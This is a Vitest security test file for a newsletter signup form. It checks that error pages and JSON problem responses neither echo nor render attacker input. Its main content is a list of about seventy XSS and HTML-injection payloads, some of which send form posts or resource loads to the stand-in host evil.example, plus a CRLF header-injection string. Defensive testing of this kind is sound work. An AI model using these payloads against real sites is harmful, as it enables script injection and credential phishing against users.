import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type System, startSystem } from '../../local/system.ts';
import { attribute, elementsOf, formIn } from '../functions/markup.ts';

let system: System;
beforeAll(async () => {
  system = await startSystem();
});
afterAll(() => system.stop());

const payloads = [
  // out of text, out of each kind of attribute
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '`><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '" onfocus="alert(1)" autofocus="',
  "' onfocus='alert(1)' autofocus='",
  '` onfocus=`alert(1)` x=`',
  ' onfocus=alert(1) autofocus ',
  '"onpointerrawupdate=alert(1) x="',
  '" style="position:fixed;inset:0" x="',
  '"/onmouseover=alert(1)/x="',
  '"\tonclick=alert(1)\tx="',
  '"\nonclick=alert(1)\nx="',
  '"\fonclick=alert(1)\fx="',
  // out of elements that our pages hold
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</form><form action=https://evil.example>',
  '</fieldset></form></main></body></html><h1>x</h1>',
  '</select><option>x',
  '</label></div><div class=x>',
  // elements that need no closing, or run by themselves
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<input name="email" value="x" autofocus onfocus=alert(1)>',
  '<button formaction=https://evil.example>Send</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<dialog open><form method=dialog>',
  '<a href="javascript:alert(1)">x</a>',
  '<x-y is=script onclick=alert(1)>',
  // comments, CDATA, instructions, broken tags
  '<!--><script>alert(1)</script>-->',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src="x"onerror="alert(1)"',
  '</script\t\n bar><script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  // escapes that a careless reader undoes twice
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x22; onfocus=alert(1) x=&#x22;',
  '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\"><script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // other alphabets and templates
  '＜script＞alert(1)＜/script＞',
  '\u202e>tpircs<',
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
  '{% raw %}<script>alert(1)</script>',
  'javascript:alert(1)//',
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
];

const path = '/xledger/signup/newsletter-no';
const post = async (target: string, fields: [string, string][]) => {
  const answer = await system.fetch(target, {
    method: 'POST',
    headers: { accept: 'text/html' },
    body: new URLSearchParams(fields),
  });
  return { status: answer.status, html: await answer.text() };
};
/** The elements of a page and the names of their attributes: what no text of a visitor may add to. */
const skeleton = (html: string) =>
  elementsOf(html).map(({ tagName, attrs }) => `${tagName} ${attrs.map(({ name }) => name).join(' ')}`);
const fields = ['email', 'name', 'company', 'phone'] as const;

describe('a form that comes back', () => {
  test.each(payloads)(
    'with %j in every field has the elements and attributes it always has, and the text as it was typed (S18)',
    async (payload) => {
      const all = (value: string): [string, string][] => [
        ['locale', 'nb'],
        ...fields.map((field): [string, string] => [field, value]),
      ];
      const plain = await post(path, all('<'));
      expect(plain.status).toBe(422);
      const { status, html } = await post(path, all(payload));
      expect(status).toBe(422);
      const errorsOf = (page: string) =>
        elementsOf(page)
          .filter((element) => attribute(element, 'aria-invalid'))
          .map((element) => attribute(element, 'name'));
      // a text that a field takes leaves no error, and so another page; all of these are wrong as an address at least
      const wrong = errorsOf(html);
      expect(wrong).toContain('email');
      if (wrong.length === errorsOf(plain.html).length) expect(skeleton(html)).toEqual(skeleton(plain.html));
      for (const { name, value } of formIn(elementsOf(html)).controls) {
        if ((fields as readonly string[]).includes(name)) expect(value).toBe(payload.replaceAll('\0', '\uFFFD'));
      }
      const alone = await post(path, [['email', payload]]);
      const usual = await post(path, [['email', '<']]);
      expect(skeleton(alone.html)).toEqual(skeleton(usual.html));
    },
  );

  test.each(payloads)(
    'with %j as a box, a version, a language, a field’s name or the trap echoes nothing of it',
    async (payload) => {
      const given: [string, string] = ['email', 'kari'];
      const pages = await Promise.all([
        post(path, [given, ['consent', payload]]),
        post(path, [given, ['formVersion', payload]]),
        post(path, [given, ['locale', payload]]),
        post(path, [given, [payload, payload]]),
        post(path, [given, ['website', payload]]),
        post(`${path}?lang=${encodeURIComponent(payload)}`, [given]),
      ]);
      const usual = [
        await post(path, [given, ['consent', 'x']]),
        await post(path, [given, ['formVersion', 'x']]),
        await post(path, [given, ['locale', 'x']]),
        await post(path, [given, ['x', 'x']]),
        await post(path, [given, ['website', 'x']]),
        await post(path, [given]),
      ];
      expect(pages).toEqual(usual);
    },
  );
});

describe('a page for an error', () => {
  test.each(payloads)('at a path with %j is the one that every path gets', async (payload) => {
    const spelled = encodeURIComponent(payload);
    const bodyOf = async (target: string) => (await system.fetch(target, { headers: { accept: 'text/html' } })).text();
    // the gateway decodes a path before it looks for a route: these meet none
    if (/[/?]/.test(payload)) {
      for (const target of [`/c/${spelled}`, `/xledger/signup/${spelled}`]) expect(await bodyOf(target)).not.toContain(payload);
      return;
    }
    expect(await bodyOf(`/c/${spelled}`)).toBe(await bodyOf('/c/x'));
    expect(await bodyOf(`/u/${spelled}?lang=${spelled}`)).toBe(await bodyOf('/u/x'));
    expect(await bodyOf(`/xledger/signup/${spelled}`)).toBe(await bodyOf('/xledger/signup/x'));
    expect(await bodyOf(`/${spelled}/signup/x`)).toBe(await bodyOf('/x/signup/x'));
  });
});

describe('a problem document', () => {
  test('repeats no text that was sent, and of a field’s name only what a name can be', async () => {
    for (const payload of payloads) {
      const body = {
        email: payload,
        name: payload,
        phone: payload,
        locale: payload,
        formVersion: payload,
        consents: [payload],
        [payload]: payload,
      };
      const answer = await system.fetch(path, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      expect(answer.status).toBe(422);
      expect(answer.headers.get('content-type')).toBe('application/problem+json');
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      const { errors } = (await answer.json()) as { errors: { detail: string; pointer: string }[] };
      for (const { detail, pointer } of errors) {
        expect(detail).not.toContain(payload);
        expect(pointer).toMatch(/^(\/[\w.-]*)*$/);
      }
    }
  });
});
